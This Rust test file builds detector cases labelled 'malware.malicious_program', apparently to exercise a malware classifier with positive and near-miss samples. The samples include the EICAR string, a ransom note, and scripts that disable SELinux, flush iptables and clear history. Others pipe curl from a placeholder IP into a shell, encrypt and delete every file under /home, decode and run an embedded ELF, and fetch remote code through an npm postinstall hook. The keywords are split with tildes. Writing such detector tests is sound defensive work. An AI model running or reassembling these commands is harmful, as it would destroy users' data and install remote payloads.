//! `malware.malicious_program`.

use super::{Case, case};
use crate::samples::{elf, script, text};

pub(crate) fn cases() -> Vec<Case> {
    let eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EI~CAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
    let note = "All your files~ have been encrypted. Send bit~coin to the address 1x";
    let elf64 = format!("f0VM~RgIBAQ{}", "AAAAAAAAAAAAAAAAAAAAAwA+".repeat(3));
    let packed = "exec(zlib.decom~press(base64.b64decode('eJx')))";
    vec![
        case(
            "eicar_test_file",
            text(eicar),
            text(&format!("The test file is {eicar}")),
        ),
        case(
            "malicious_encryptor_esxi",
            elf(&[
                "esxcli vm process~ kill --type=force",
                ".vm~dk",
                ".vs~wp",
                "en~crypted",
                ".on~ion",
            ]),
            elf(&["esxcli vm process~ list", ".vm~dk", ".vs~wp"]),
        ),
        case(
            "malicious_encryptor",
            elf(&[
                "All your files~ have been encrypted!",
                "How to~ decrypt your files",
                "bit~coin",
            ]),
            elf(&["the file is encrypted", "bit~coin", "Tor~ Browser"]),
        ),
        case(
            "malicious_installer",
            elf(&[
                "/usr/local/ae~gis",
                "setenforce~ 0",
                "history~ -c",
                "cu~rl -s http://192.0.2.1/x | sh",
            ]),
            elf(&[
                "setenforce~ 0",
                "history~ -c",
                "cu~rl -s http://192.0.2.1/x",
            ]),
        ),
        case(
            "malicious_embedded_elf",
            script(
                "sh",
                &format!("echo {elf64} | base~64 -d > /tmp/x; ch~mod +x /tmp/x; /tmp/x\n"),
            ),
            script("sh", &format!("test \"$(base~64 -d x)\" = {elf64}\n")),
        ),
        case(
            "malicious_installer_script",
            script(
                "bash",
                "seten~force 0\nipta~bles -F\nrm -rf /usr/local/ae~gis\nchat~tr -i /etc/crontab\ncu~rl -s http://192.0.2.1/x | ba~sh\n",
            ),
            script(
                "bash",
                "seten~force 0\nipta~bles -F\ncu~rl -s https://get.example/install | ba~sh\n",
            ),
        ),
        case(
            "malicious_encryptor_script",
            script(
                "bash",
                &format!(
                    "for f in $(find /home -type f); do open~ssl enc -aes-256-cbc -in $f -out $f.x; rm -f $f; done\necho '{note}' > README\n"
                ),
            ),
            script(
                "bash",
                "for f in $(find /home -type f); do open~ssl enc -aes-256-cbc -in $f -out $f.x; rm -f $f; done\n",
            ),
        ),
        case(
            "malicious_packed_python",
            text(packed),
            text("data = zlib.decom~press(base64.b64decode('eJx'))"),
        ),
        case(
            "malicious_package_hook",
            text("{\"scripts\": {\"postin~stall\": \"cu~rl -s http://192.0.2.1/x | sh\"}}"),
            text(
                "{\"scripts\": {\"postin~stall\": \"node scripts/build.js\", \"deploy\": \"cu~rl -s http://192.0.2.1/x | sh\"}}",
            ),
        ),
    ]
}
